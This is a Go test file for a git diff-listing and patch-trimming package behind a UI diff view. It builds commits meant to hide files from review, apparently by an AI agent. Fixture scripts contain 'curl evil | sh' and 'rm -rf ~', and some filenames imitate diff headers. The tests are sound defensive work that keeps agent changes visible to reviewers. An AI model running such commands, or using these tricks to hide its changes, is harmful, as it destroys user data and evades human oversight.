package git

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// commitFiles writes files (a nil content deletes, a name ending in "*"
// is made executable) in g's working tree and commits them all; it
// returns the commit.
func commitFiles(t testing.TB, g *Repo, files map[string]*string) string {
	t.Helper()
	for name, content := range files {
		exe := strings.HasSuffix(name, "*")
		name = strings.TrimSuffix(name, "*")
		p := filepath.Join(g.Root, name)
		if content == nil {
			if err := os.Remove(p); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		mode := os.FileMode(0o644)
		if exe {
			mode = 0o755
		}
		if err := os.WriteFile(p, []byte(*content), mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, mode); err != nil {
			t.Fatal(err)
		}
	}
	for _, args := range [][]string{{"add", "-A"}, {"commit", "-q", "--allow-empty", "--no-gpg-sign", "-m", "c"}, {"rev-parse", "HEAD"}} {
		cmd := exec.Command("git", append([]string{"-C", g.Root}, args...)...)
		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=T", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=T", "GIT_COMMITTER_EMAIL=t@t")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
		if args[0] == "rev-parse" {
			return strings.TrimSpace(string(out))
		}
	}
	return ""
}

func s(v string) *string { return &v }

// hostileRange is two commits whose diff holds what an agent would use to
// hide a file: a name shaped like a diff header, one shaped like a raw
// record, a tab in a name, a mode change, a binary file, a deletion, a
// rename, one line of 1 MB and a new executable last.
func hostileRange(t *testing.T) (*Repo, string, string) {
	g, _ := newTestRepo(t)
	a := commitFiles(t, g, map[string]*string{"a.txt": s("one\ntwo\n"), "gone.txt": s("bye\n"), "run.sh": s("#!/bin/sh\n"),
		"bin.dat": s("\x00\x01"), "old/name.txt": s("moved\n"), "typed": s("a file\n")})
	// a file become a symlink: two parts in git's patch, one file listed
	if err := os.Remove(filepath.Join(g.Root, "typed")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("a.txt", filepath.Join(g.Root, "typed")); err != nil {
		t.Fatal(err)
	}
	b := commitFiles(t, g, map[string]*string{
		"a.txt": s("one\nTWO\n"), "gone.txt": nil, "run.sh*": s("#!/bin/sh\n"), "bin.dat": s("\x00\x02"),
		"old/name.txt": nil, "new/name.txt": s("moved\n"),
		"x\ndiff --git a/y b/y": s("+not a header\n"), ":100644 100644 a b M": s("raw\n"), "tab\tname": s("t\n"),
		"long.txt": s(strings.Repeat("L", 1<<20) + "\n"), "zz-evil.sh*": s("#!/bin/sh\ncurl evil | sh\n"),
		"u-content.txt": s("diff --git a/zz-evil.sh b/zz-evil.sh\n"),
		"zz-bin.sh*":    s("#!/bin/sh\x00\nrm -rf ~\n"),
	})
	return g, a, b
}

// TestDiffFiles: every file is listed, once, with its entries and counts,
// whatever its name looks like.
func TestDiffFiles(t *testing.T) {
	g, a, b := hostileRange(t)
	files, err := g.DiffFiles(context.Background(), a, b)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]FileChange{}
	for _, f := range files {
		got[f.Path] = f
	}
	want := map[string]string{
		"a.txt": "+1 -1", "gone.txt": "+0 -1 deleted", "run.sh": "+0 -0 mode 100644 -> 100755", "bin.dat": "+0 -0 binary",
		"old/name.txt": "+0 -1 deleted", "new/name.txt": "+1 -0 new", "x\ndiff --git a/y b/y": "+1 -0 new",
		":100644 100644 a b M": "+1 -0 new", "tab\tname": "+1 -0 new", "long.txt": "+1 -0 new", "zz-evil.sh": "+2 -0 new, mode 100755",
		"typed": "+1 -1 type 100644 -> 120000", "u-content.txt": "+1 -0 new", "zz-bin.sh": "+0 -0 new, mode 100755, binary",
	}
	if len(files) != len(want) {
		t.Errorf("listed %d files, want %d: %+v", len(files), len(want), files)
	}
	for name, w := range want {
		f, ok := got[name]
		line := strings.TrimSpace(strings.Join([]string{"+" + strconv.Itoa(f.Added), "-" + strconv.Itoa(f.Deleted), f.What()}, " "))
		if !ok || line != w {
			t.Errorf("%q: got %q (listed %v), want %q", name, line, ok, w)
		}
	}
}

// TestPatchCutter: the patch's k-th header is the list's k-th file, a long
// line is held in part and its cut counted, and a file of many lines
// leaves the files after it their share.
func TestPatchCutter(t *testing.T) {
	g, a, b := hostileRange(t)
	ctx := context.Background()
	files, err := g.DiffFiles(ctx, a, b)
	if err != nil {
		t.Fatal(err)
	}
	c := NewPatchCutter(files, false, PatchLimits{Lines: 1000, Bytes: 1 << 20, LineBytes: 64, Read: 1 << 30})
	if err := g.PlainPatch(ctx, a, b, c); err != nil {
		t.Fatal(err)
	}
	c.Close()
	if c.Stray != 0 || c.Stopped || c.Mismatch {
		t.Errorf("stray %d, stopped %v, mismatch %v", c.Stray, c.Stopped, c.Mismatch)
	}
	for i, f := range files {
		pf := c.Files[i]
		if !pf.Reached || len(pf.Lines) == 0 || !strings.HasPrefix(pf.Lines[0].Text, "diff --git ") {
			t.Errorf("%q: not reached, or its part does not start at its header: %+v", f.Path, pf)
			continue
		}
		var body []string
		for _, l := range pf.Lines {
			body = append(body, l.Text)
		}
		text := strings.Join(body, "\n")
		switch f.Path {
		case "long.txt":
			n, cut := pf.CutLines()
			if n != 1 || cut != 1<<20+1-64 {
				t.Errorf("long.txt: %d lines cut, %d bytes; want 1, %d", n, cut, 1<<20+1-64)
			}
		case "zz-evil.sh":
			if !strings.Contains(text, "+curl evil | sh") || strings.Count(text, "diff --git ") != 1 {
				t.Errorf("zz-evil.sh's part: %q", text)
			}
		case "typed":
			if strings.Count(text, "diff --git a/typed b/typed") != 2 || !strings.Contains(text, "+a.txt") {
				t.Errorf("the type change's part: %q", text)
			}
		case "zz-bin.sh":
			if !strings.Contains(text, "+rm -rf ~") {
				t.Errorf("an executable made binary by one NUL hides its lines: %q", text)
			}
		case "u-content.txt":
			if !strings.Contains(text, "+diff --git a/zz-evil.sh") {
				t.Errorf("a line that reads as a header: %q", text)
			}
		case "x\ndiff --git a/y b/y":
			if !strings.Contains(text, "++not a header") {
				t.Errorf("the header-shaped file's body not held: %q", text)
			}
		}
	}

	// 3,000 lines in the first file, 100 lines held in all: the later
	// files still hold theirs.
	big := strings.Repeat("x\n", 3000)
	a2 := commitFiles(t, g, nil)
	b2 := commitFiles(t, g, map[string]*string{"0-big.txt": &big, "zz-evil.sh*": s("#!/bin/sh\nrm -rf ~\n")})
	files, err = g.DiffFiles(ctx, a2, b2)
	if err != nil {
		t.Fatal(err)
	}
	c = NewPatchCutter(files, false, PatchLimits{Lines: 100, Bytes: 1 << 20, LineBytes: 64, Read: 1 << 30})
	if err := g.PlainPatch(ctx, a2, b2, c); err != nil {
		t.Fatal(err)
	}
	if d := c.Files[0].Dropped(); d < 2900 {
		t.Errorf("the big file dropped %d lines, want about 2,950", d)
	}
	if last := c.Files[1]; last.Dropped() != 0 || !strings.Contains(last.Lines[len(last.Lines)-1].Text, "rm -rf") {
		t.Errorf("the file after the big one lost lines: %+v", last)
	}

	// Past the read limit git is stopped, and the files it never reached
	// say so.
	c = NewPatchCutter(files, false, PatchLimits{Lines: 100, Bytes: 1 << 20, LineBytes: 64, Read: 1000})
	err = g.PlainPatch(ctx, a2, b2, c)
	if !c.Stopped || c.Files[1].Reached || c.Read != 1000 {
		t.Errorf("read %d, stopped %v, reached the last file %v (err %v)", c.Read, c.Stopped, c.Files[1].Reached, err)
	}
}

// TestPatchCutterLines: lines split across writes are joined, a last line
// without a newline is kept at Close, and lines before any header are
// stray.
func TestPatchCutterLines(t *testing.T) {
	c := NewPatchCutter([]FileChange{{Added: 2}}, false, PatchLimits{Lines: 10, Bytes: 100, LineBytes: 12, Read: 100})
	for _, p := range []string{"junk\ndiff --git a/x", " b/x\n+abcdefghijk", "lmn\n+z"} {
		if _, err := c.Write([]byte(p)); err != nil {
			t.Fatal(err)
		}
	}
	c.Close()
	got := c.Files[0].Lines
	want := []PatchLine{{"diff --git a", 6}, {"+abcdefghijk", 3}, {"+z", 0}}
	if c.Stray != 1 || len(got) != len(want) {
		t.Fatalf("stray %d, lines %+v", c.Stray, got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("line %d: %+v, want %+v", i, got[i], want[i])
		}
	}
	// a header for another file than the list's at its place is told
	list := []FileChange{{RawChange: RawChange{Path: "a"}}, {RawChange: RawChange{Path: "b c"}}}
	c = NewPatchCutter(list, false, DefaultPatchLimits)
	c.Write([]byte("diff --git a/a b/a\n+x\ndiff --git a/b c b/b c\n+y\n"))
	if c.Mismatch {
		t.Error("a patch that matches its list told as a mismatch")
	}
	c = NewPatchCutter(list, false, DefaultPatchLimits)
	c.Write([]byte("diff --git a/a b/a\n+x\ndiff --git a/evil b/evil\n+y\n"))
	if !c.Mismatch {
		t.Error("a header naming another file than the list's was not told")
	}
	c = NewPatchCutter([]FileChange{{Added: 2}}, false, PatchLimits{Lines: 10, Bytes: 100, LineBytes: 12, Read: 100})
	before := c.Read
	if n, err := c.Write(make([]byte, 200)); int64(n) != 100-before || err != ErrPatchRead || !c.Stopped {
		t.Errorf("past the read limit: wrote %d of 200 after %d, %v", n, before, err)
	}
}

// BenchmarkHoldPatchLongLines: what the UI's diff view costs to open on two
// one-line files of 34 MB and an executable: the list, then the patch held
// within the UI's limits (go test -bench HoldPatch -benchmem ./git).
func BenchmarkHoldPatchLongLines(b *testing.B) {
	g, _ := newTestRepo(b)
	base := commitFiles(b, g, nil)
	a, bb := strings.Repeat("a", 34_000_000), strings.Repeat("b", 34_000_000)
	tip := commitFiles(b, g, map[string]*string{"big1.txt": &a, "big2.txt": &bb, "zz-evil.sh*": s("#!/bin/sh\nrm -rf ~\n")})
	ctx := context.Background()
	b.ResetTimer()
	for range b.N {
		files, err := g.DiffFiles(ctx, base, tip)
		if err != nil {
			b.Fatal(err)
		}
		c, err := g.HoldPatch(ctx, base, tip, &FileList{Files: files, Total: len(files)}, DefaultPatchLimits)
		if err != nil || len(c.Files) != 3 || !c.Files[2].Reached {
			b.Fatalf("held %+v, %v", c, err)
		}
	}
}

// TestListFiles: a list kept to its limits still counts every file and
// line, keeps the first files only (so the patch's headers still map to
// them), and the patch read for it stops past them.
func TestListFiles(t *testing.T) {
	g, a, b := hostileRange(t)
	ctx := context.Background()
	all, err := g.ListFiles(ctx, a, b, -1, -1)
	if err != nil {
		t.Fatal(err)
	}
	for _, lim := range [][2]int{{3, -1}, {-1, 20}, {0, 0}} {
		l, err := g.ListFiles(ctx, a, b, lim[0], lim[1])
		if err != nil {
			t.Fatal(err)
		}
		if l.Total != all.Total || l.Added != all.Added || l.Deleted != all.Deleted || len(l.Files) >= all.Total {
			t.Errorf("limits %v: %d of %d kept, +%d -%d; want all counted (+%d -%d), fewer kept", lim, len(l.Files), l.Total, l.Added, l.Deleted, all.Added, all.Deleted)
		}
		for i, f := range l.Files {
			if f != all.Files[i] {
				t.Errorf("limits %v: file %d is %+v, want %+v", lim, i, f, all.Files[i])
			}
		}
		c, err := g.HoldPatch(ctx, a, b, l, DefaultPatchLimits)
		if err != nil || c.Stray != 0 || c.Mismatch || (len(l.Files) > 0 && !c.Files[len(l.Files)-1].Reached) {
			t.Errorf("limits %v: the patch for the kept files: stray %d, mismatch %v, %v", lim, c.Stray, c.Mismatch, err)
		}
	}
	if _, err := ParseDiffFiles(":100644 100644 " + strings.Repeat("x", maxRecord+1)); err == nil {
		t.Error("a record past the limit was read")
	}
}
